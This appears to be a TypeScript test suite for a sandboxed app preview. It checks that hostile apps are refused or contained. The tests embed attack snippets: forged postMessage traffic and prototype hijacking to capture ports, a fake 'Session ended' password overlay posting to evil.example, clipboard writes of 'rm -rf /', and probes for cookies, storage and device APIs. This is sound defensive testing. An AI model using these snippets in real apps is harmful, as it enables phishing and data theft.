/** Apps that lie, imitate, listen and look around: nothing of the page, of other projects or of the person is theirs, and what comes next is clean. */

import { longestPause } from '@sayso/testing/longest-pause'
import { openPreviewPage, type PreviewPage } from '@sayso/testing/preview-page'
import { hostileTest as test } from '@sayso/testing/preview-test'
import { expect } from 'vitest'
import { plainApp } from './testing/apps.ts'
import { attempting } from './testing/floods.ts'

const quiet = `
import { Text } from 'react-native'
export default function App() { return <Text>Still here</Text> }
`
const app = (before: string) => `
import { Text } from 'react-native'
${before}
export default function App() { return <Text>Here</Text> }
`

/** The page is where it was, alone, and shows what comes next. */
async function stillWorks(preview: PreviewPage, address: string): Promise<void> {
  await preview.edit({ 'App.tsx': quiet })
  await preview.see('Still here')
  await preview.waitFor(
    ({ phase, isBlank, problems }) => phase === 'running' && !isBlank && problems.length === 0,
  )
  expect(preview.page.url()).toBe(address)
  expect(preview.page.context().pages()).toHaveLength(1)
}

/** An app that tries each of these, and shows the names of those that worked. */
const trying = (attempts: Record<string, string>) =>
  attempting(`
    const attempts: Record<string, () => unknown> = {
      ${Object.entries(attempts)
        .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
        .join(',\n')}
    }
    const worked: string[] = []
    await Promise.all(Object.entries(attempts).map(async ([name, run]) => {
      const late = new Promise((_, reject) => setTimeout(reject, 1_000))
      try { await Promise.race([run(), late]); worked.push(name) } catch {}
    }))
    console.log('All has been tried')
    return worked.length === 0 ? 'refused' : worked.join(', ')
  `)

/** Result of the attempt: the list of successes is read at once. */
async function outcomeIs(preview: PreviewPage, wanted: string): Promise<void> {
  // A driver that looks into a frame counts as a person who has pressed something there: it looks only after all
  // attempts.
  await preview.waitFor((state) => state.console.some(({ text }) => text.includes('All has been tried')))
  const outcome = (await preview.app()).getByText('Outcome: ')
  await outcome.waitFor({ state: 'attached' })
  expect(await outcome.textContent()).toBe(`Outcome: ${wanted}`)
}

const must = (condition: string) => `if (!(${condition})) throw new Error('no')`

test('[S1] what is around an app says nothing of the page, of its address or of when it did what', async ({
  preview,
}) => {
  const address = preview.page.url()
  await preview.page.evaluate(() => {
    window.name = 'the name of the studio'
    performance.mark('studio-mark')
  })
  await preview.open({
    ...plainApp,
    'App.tsx': trying({
      opener: must('window.opener !== null'),
      referrer: must(`document.referrer !== ''`),
      name: must(`window.name !== ''`),
      'name of the page': must(`typeof window.parent.name === 'string'`),
      'address of the page': must(`typeof window.parent.location.href === 'string'`),
      'entries of the page': must(
        `performance.getEntriesByName('studio-mark').length > 0 || typeof (window.parent as any).performance.now() === 'number'`,
      ),
      'what the page loaded': must(
        `performance.getEntriesByType('resource').some(({ name }) => name.includes('/api/') || name.includes('host'))`,
      ),
      'memory of all': `await (performance as any).measureUserAgentSpecificMemory()`,
      'frame around': must(`window.frameElement !== null`),
      databases: must(`(await indexedDB.databases()).length >= 0`),
      cookies: `await (window as any).cookieStore.getAll()`,
    }),
  })
  await outcomeIs(preview, 'refused')
  await stillWorks(preview, address)
})

test('[S1] nothing of the person’s machine is had for the asking', async ({ preview }) => {
  const address = preview.page.url()
  await preview.open({
    ...plainApp,
    'App.tsx': trying({
      notifications: must(`(await Notification.requestPermission()) === 'granted'`),
      screens: `await (window as any).getScreenDetails()`,
      fonts: `await (window as any).queryLocalFonts()`,
      files: `await (window as any).showOpenFilePicker()`,
      folders: `await (window as any).showDirectoryPicker()`,
      colours: `await new (window as any).EyeDropper().open()`,
      idleness: `await (window as any).IdleDetector.requestPermission(); await new (window as any).IdleDetector().start()`,
      keyboard: `await (navigator as any).keyboard.lock()`,
      'a layout of keys': `await (navigator as any).keyboard.getLayoutMap()`,
      bluetooth: `await (navigator as any).bluetooth.requestDevice({ acceptAllDevices: true })`,
      serial: `await (navigator as any).serial.requestPort()`,
      hid: `if ((await (navigator as any).hid.requestDevice({ filters: [] })).length >= 0) return`,
      midi: `await navigator.requestMIDIAccess()`,
      'a wake lock': `await navigator.wakeLock.request('screen')`,
      sharing: `await navigator.share({ title: 'x' })`,
      payment: `await new PaymentRequest([{ supportedMethods: 'https://evil.example/pay' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show()`,
      protocols: `navigator.registerProtocolHandler('web+evil', 'https://evil.example/?%s')`,
      'picture in picture': `await (window as any).documentPictureInPicture.requestWindow()`,
      'the clipboard, unasked': `window.focus(); await navigator.clipboard.writeText('rm -rf /')`,
      'the clipboard, by command': must(
        `(() => { const field = document.createElement('textarea'); field.value = 'rm'; document.body.append(field); field.select(); const ok = document.execCommand('copy'); field.remove(); return ok })()`,
      ),
    }),
  })
  await outcomeIs(preview, 'refused')
  await stillWorks(preview, address)
})

/** Most browsers refuse it too, in other words: our words show that the frame checks first. */
test('[S1] that the clipboard waits for a press is said by the frame, before the browser is asked', async ({
  preview,
}) => {
  await preview.open({
    ...plainApp,
    'App.tsx': app(
      `navigator.clipboard.writeText('rm -rf /').catch(({ message }) => console.log('Refused:', message))`,
    ),
  })
  // Nothing looks into the frame, which would count as a press.
  const { console: lines } = await preview.waitFor((state) =>
    state.console.some(({ text }) => text.includes('Refused')),
  )
  expect(lines.map(({ text }) => text)).toContain(
    'Refused: The clipboard is written when the person presses something.',
  )
})

test('[S1] the history of the page is not the app’s to go through', async ({ preview }) => {
  await preview.page.evaluate(() => {
    history.pushState({ at: 'two' }, '', '?at=two')
    history.pushState({ at: 'three' }, '', '?at=three')
    addEventListener('popstate', () => Object.assign(globalThis, { wasMoved: true }))
  })
  const address = preview.page.url()
  await preview.open({
    ...plainApp,
    'App.tsx': attempting(
      `for (let n = 0; n < 20; n++) { history.back(); history.go(-1); history.forward(); History.prototype.go.call(history, -2) } await new Promise((resolve) => setTimeout(resolve, 700)); return 'tried'`,
    ),
  })
  await preview.see('Outcome: tried')
  expect(await preview.page.evaluate('globalThis.wasMoved === true')).toBe(false)
  await stillWorks(preview, address)
})

const FORGED = `[
  { type: 'applied', revision: 99, ok: true, domMs: 0, paintedMs: 0 },
  { type: 'problems', problems: [{ id: 'x', kind: 'render', message: 'FORGED', place: null }] },
  { type: 'console', level: 'error', text: 'FORGED' },
  { type: 'route', path: '/forged' },
  { type: 'sight', isBlank: false, isSpoiled: false },
  { type: 'storage-set', key: 'forged', value: 'x' },
  { type: 'cannot-start', message: 'FORGED' },
  { type: 'pong', n: 1 },
]`

/** Nothing that is shown comes from a message of the app's own making. */
async function expectNothingForged(preview: PreviewPage): Promise<void> {
  // Two heartbeats: earlier messages have been answered by then.
  await preview.page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1_100)))
  const state = await preview.getState()
  const said = [...state.problems.map(({ message }) => message), ...state.console.map(({ text }) => text)]
  expect(said.filter((text) => text.includes('FORGED'))).toEqual([])
  expect(state).toMatchObject({ phase: 'running', shownRevision: 1, route: '/' })
}

test.for([
  [
    'to the page',
    `for (const message of messages) for (const target of [parent, top!]) target.postMessage(message, '*')`,
  ],
  [
    'to itself, as if the page had sent them',
    `for (const data of messages) window.dispatchEvent(new MessageEvent('message', { data, source: parent as any, origin: 'null' }))`,
  ],
  [
    'as a second welcome',
    `const { port1, port2 } = new MessageChannel(); window.dispatchEvent(new MessageEvent('message', { data: { type: 'sayso-frame-welcome', version: 1, nonce: '' }, source: parent as any, ports: [port1, port2] }))`,
  ],
  [
    'through what it puts in the place of the browser’s own methods',
    `for (const name of ['postMessage', 'start', 'close'] as const) { const own = MessagePort.prototype[name] as any; MessagePort.prototype[name] = function (this: MessagePort, ...args: unknown[]) { caught(this); return own.apply(this, args) } as never }`,
  ],
  [
    'through what it puts in the place of an event’s own fields',
    `for (const [owner, name] of [[MessageEvent.prototype, 'data'], [MessageEvent.prototype, 'ports'], [MessageEvent.prototype, 'source'], [Event.prototype, 'target'], [Event.prototype, 'type']] as const) {
       const own = Object.getOwnPropertyDescriptor(owner, name)!
       Object.defineProperty(owner, name, { configurable: true, get() { const target = currentTarget(this); if (target instanceof MessagePort) caught(target); return own.get!.call(this) } })
     }`,
  ],
  [
    'through the arrays and calls that its messages go through',
    `for (const name of ['call', 'apply', 'bind'] as const) { const own = Function.prototype[name] as any; Object.defineProperty(Function.prototype, name, { configurable: true, writable: true, value: function (this: unknown, self: unknown, ...args: unknown[]) { if (self instanceof MessagePort) caught(self); return Reflect.apply(own, this, [self, ...args]) } }) }
     Object.defineProperty(Object.prototype, 'onMessage', { configurable: true, set(value) { console.log('caught') } })`,
  ],
])('[S2] an app that forges messages %s is not believed', async ([, code = ''], { preview }) => {
  const address = preview.page.url()
  await preview.open({
    ...plainApp,
    'App.tsx': app(`
const messages = ${FORGED}
const currentTarget = (event: Event) => Object.getOwnPropertyDescriptor(Event.prototype, 'currentTarget')!.get!.call(event)
const post = MessagePort.prototype.postMessage
const known = new Set<MessagePort>()
function caught(port: MessagePort) { if (known.has(port)) return; known.add(port); for (const message of messages) post.call(port, message) }
${code}`),
  })
  await preview.see('Here')
  await preview.waitFor(({ shownRevision }) => shownRevision === 1)
  await expectNothingForged(preview)
  await stillWorks(preview, address)
})

/** A frame of the page that is not the app's own. */
const beside = `[...Array(parent.length).keys()].map((n) => parent.frames[n]!).find((other) => other !== window)!`
const within = (code: string) =>
  `const inner = document.createElement('iframe'); inner.srcdoc = '<script>${code}<' + '/script>'; document.body.append(inner)`
const toldWithin = `await new Promise((resolve, reject) => { addEventListener('message', ({ data }) => data === 'moved' ? resolve(1) : reject(data)) })`

test.for([
  ['reads the frame beside it', must(`${beside}.document.body !== null`)],
  ['steers the frame beside it', `${beside}.location.href = 'data:text/html,stolen'`],
  [
    'reads a frame within it',
    `const inner = document.createElement('iframe'); inner.srcdoc = '<p>inner</p>'; document.body.append(inner); await new Promise((resolve) => { inner.onload = resolve }); return inner.contentDocument!.body.innerText`,
  ],
  [
    'leads the page away from a frame within it',
    `${within(`try { top.location.href = "about:blank"; parent.postMessage("moved", "*") } catch (error) { parent.postMessage("kept", "*") }`)}; ${toldWithin}`,
  ],
  [
    'asks and prints from a frame within it',
    `${within('alert(1); confirm(2); print()')}; throw new Error('no')`,
  ],
  [
    'asks and prints from a blob and a data document within it',
    `for (const src of ['blob', 'data']) { const inner = document.createElement('iframe'); const code = '<script>alert(1);print();confirm(2)<' + '/script>'; inner.src = src === 'blob' ? URL.createObjectURL(new Blob([code], { type: 'text/html' })) : 'data:text/html,' + code; document.body.append(inner) }; throw new Error('no')`,
  ],
  [
    'welcomes the frame beside it in the name of the page',
    `const { port1, port2 } = new MessageChannel(); const { port1: port3 } = new MessageChannel(); const heard = new Promise((resolve) => { port2.onmessage = resolve }); ${beside}.postMessage({ type: 'sayso-frame-welcome', version: 1, nonce: 'nonce', settings: {} }, '*', [port1, port3]); await heard`,
  ],
])('[S1] an app that %s is refused, or does nothing', async ([, code = ''], { preview, site }) => {
  const address = preview.page.url()
  const seen: string[] = []
  preview.page.on('dialog', (dialog) => {
    seen.push(dialog.type())
    return dialog.dismiss()
  })
  await preview.page.evaluate((frameUrl) => {
    const beside = document.createElement('iframe')
    beside.setAttribute('sandbox', 'allow-scripts')
    beside.src = frameUrl
    document.body.append(beside)
    return new Promise((resolve) => {
      beside.onload = resolve
    })
  }, `${site.url}frame/#nonce`)
  await preview.open({ ...plainApp, 'App.tsx': trying({ 'it worked': code }) })
  await outcomeIs(preview, 'refused')
  expect(seen).toEqual([])
  expect(
    preview.page
      .frames()
      .map((frame) => frame.url())
      .join(),
  ).not.toContain('stolen')
  await stillWorks(preview, address)
})

test.for([
  ['a blob', `URL.createObjectURL(new Blob(['<h1>Sign in again</h1>'], { type: 'text/html' }))`],
  ['a data address', `'data:text/html,<h1>Sign in again</h1>'`],
])('[S5] an app that goes to %s has left its page', async ([, to = ''], { preview }) => {
  const address = preview.page.url()
  await preview.open({ ...plainApp, 'App.tsx': app(`setTimeout(() => { location.href = ${to} }, 200)`) })
  const { problems } = await preview.waitFor((state) => state.problems.length > 0)
  expect(problems.map(({ message }) => message)).toEqual(['The app left its own page.'])
  await stillWorks(preview, address)
})

test.for([
  [
    'once it runs',
    `setTimeout(() => { document.write('<h1>Sign in again</h1><input type=password>'); document.close() }, 200)`,
  ],
  ['while it is read', `document.write('<h1>Sign in again</h1><input type=password>')`],
  ['without an end', `setInterval(() => document.write('<p>more</p>'), 20)`],
])(
  '[S5] an app that writes its document %s is put back, and does no harm to the next',
  async ([, code = ''], { preview }) => {
    const address = preview.page.url()
    await preview.open({ ...plainApp, 'App.tsx': app(code) })
    const { problems, console: lines } = await preview.waitFor(
      (state) => state.problems.length > 0 || state.console.length > 0,
    )
    const said = [...problems.map(({ message }) => message), ...lines.map(({ text }) => text)].join()
    expect(said).toMatch(/The app left its own page|it was put back/)
    expect(said).not.toContain('endless loop')
    await stillWorks(preview, address)
  },
)

const REPLACED: Record<string, string> = {
  'Promise and microtasks': `window.Promise = class { then() { return this } catch() { return this } finally() { return this } static resolve() { return new this() } static all() { return new this() } } as any; window.queueMicrotask = () => {}`,
  'timers and frames': `for (const name of ['setTimeout', 'setInterval', 'requestAnimationFrame', 'requestIdleCallback', 'setImmediate'] as const) (window as any)[name] = () => 0`,
  'messages between ports': `MessagePort.prototype.postMessage = () => {}; (window as any).MessageChannel = class { port1 = {}; port2 = { postMessage() {} } }`,
  'what finds and makes elements': `for (const name of ['createElement', 'createTextNode', 'getElementById', 'querySelector', 'querySelectorAll', 'elementsFromPoint']) (Document.prototype as any)[name] = () => { throw new Error('no ' + name) }`,
  'what changes elements': `for (const name of ['appendChild', 'insertBefore', 'removeChild', 'replaceChild']) (Node.prototype as any)[name] = () => { throw new Error('no ' + name) }`,
  'what measures': `(window as any).getComputedStyle = () => { throw new Error('no') }; performance.now = () => NaN; Date.now = () => NaN; Element.prototype.getBoundingClientRect = () => { throw new Error('no') }`,
  errors: `(window as any).Error = class { constructor() { throw 1 } }; (window as any).TypeError = window.Error; window.onerror = () => true; addEventListener('error', (event) => event.stopImmediatePropagation(), true)`,
  'the console': `for (const name of Object.keys(console)) (console as any)[name] = () => { throw new Error('no') }`,
  'globals, by a proxy': `for (const name of ['document', '__d', 'performance', 'Reflect', 'Object', 'React']) { try { const own = (window as any)[name]; Object.defineProperty(window, name, { configurable: true, get: () => new Proxy(own ?? {}, { get(target, key) { return Math.random() < 0.5 ? undefined : Reflect.get(target, key) } }) }) } catch {} }; try { Object.setPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(window)), new Proxy({}, { get() { return () => 'proxied' }, has: () => true })) } catch {}`,
}

test.for(Object.entries(REPLACED))(
  '[S6] an app that replaces %s neither looks well for it nor harms the next',
  async ([, code], { preview }) => {
    const address = preview.page.url()
    await preview.open(plainApp)
    await preview.see('Plain')
    await preview.edit({ 'App.tsx': app(code) })
    await preview.waitFor(
      (state) =>
        state.revision === 2 &&
        (state.shownRevision === 2 || state.problems.length > 0 || state.isBlank || state.phase === 'hung'),
    )
    const state = await preview.getState()
    // An app that counts as running is visible.
    if (
      state.phase === 'running' &&
      state.shownRevision === state.revision &&
      !state.isBlank &&
      state.problems.length === 0
    )
      await preview.see('Here')
    await preview.edit({ 'App.tsx': quiet })
    await preview.call('reload')
    await preview.see('Still here')
    await preview.waitFor(
      ({ phase, isBlank, problems }) => phase === 'running' && !isBlank && problems.length === 0,
    )
    expect(preview.page.url()).toBe(address)
  },
)

test('[S1] an app that imitates the page around it, and asks for a password, stays in the phone', async ({
  preview,
}) => {
  const address = preview.page.url()
  const imitation = `
const cover = document.createElement('form')
cover.style.cssText = 'position: fixed; left: -2000px; top: -2000px; width: 9000px; height: 9000px; z-index: 2147483647; background: #fff'
cover.innerHTML = '<h1 style="position: absolute; left: 2040px; top: 2200px">Session ended</h1><input type=email autocomplete=username style="position: absolute; left: 2040px; top: 2300px"><input type=password autocomplete=current-password style="position: absolute; left: 2040px; top: 2340px">'
cover.action = 'https://evil.example/'
try { (cover as any).popover = 'manual'; document.body.append(cover); (cover as any).showPopover() } catch { document.body.append(cover) }
`
  await preview.open({ ...plainApp, 'App.tsx': app(imitation) })
  await preview.see('Session ended')
  const box = await preview.page.locator('iframe').boundingBox()
  const beside = await preview.page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.localName, {
    x: (box?.x ?? 0) + (box?.width ?? 0) + 20,
    y: 200,
  })
  expect(beside).not.toBe('iframe')
  expect(await (await preview.app()).evaluate(`document.querySelector('input[type=password]').value`)).toBe(
    '',
  )
  // React does not remove the cover.
  await preview.edit({ 'App.tsx': quiet })
  await preview.see('Still here')
  await (await preview.app()).getByText('Session ended').waitFor({ state: 'detached' })
  await stillWorks(preview, address)
})

test.for([
  ['throws', `setTimeout(() => { throw new Error('x'.repeat(50_000_000)) })`],
  ['rejects with', `void Promise.reject(new Error('x'.repeat(50_000_000)))`],
  ['renders', `throw new Error('x'.repeat(50_000_000))`],
  [
    'names an error',
    `setTimeout(() => { const error = new Error('x'); error.name = 'n'.repeat(20_000_000); error.stack = 's\\n'.repeat(10_000_000); throw error })`,
  ],
])('[S3] an app that %s 50 MB of text is cut short', async ([, code = ''], { preview }) => {
  const address = preview.page.url()
  const pauseMs = await longestPause(preview, async () => {
    await preview.open({ ...plainApp, 'App.tsx': app(code) })
    await preview.waitFor(({ problems }) => problems.length > 0)
  })
  expect(JSON.stringify((await preview.getState()).problems).length).toBeLessThan(20_000)
  // The limit of the long suite is half a second, with nothing else on the machine.
  expect(pauseMs).toBeLessThan(3_000)
  await stillWorks(preview, address)
})

test('[S1] one project’s storage, names and channels are not another’s, in one browser', async ({
  preview,
  site,
}) => {
  const keep = `localStorage.setItem('secret', 'of the first'); sessionStorage.setItem('secret', 'too'); window.name = 'secret'; const channel = new BroadcastChannel('secret'); channel.onmessage = () => channel.postMessage('secret')`
  await preview.open({ ...plainApp, 'App.tsx': app(keep) })
  await preview.see('Here')
  const other = await openPreviewPage(preview.page.context(), site.url)
  await other.open({
    ...plainApp,
    'App.tsx': trying({
      storage: must(`localStorage.length + sessionStorage.length > 0`),
      name: must(`window.name !== ''`),
      channel: `const channel = new BroadcastChannel('secret'); const heard = new Promise((resolve) => { channel.onmessage = resolve }); channel.postMessage('hello'); await heard`,
      worker: `new SharedWorker(URL.createObjectURL(new Blob([''])))`,
      'a lock': `await navigator.locks.query()`,
      'a file system': `await navigator.storage.getDirectory()`,
    }),
  })
  await other.see('Outcome: refused')
})
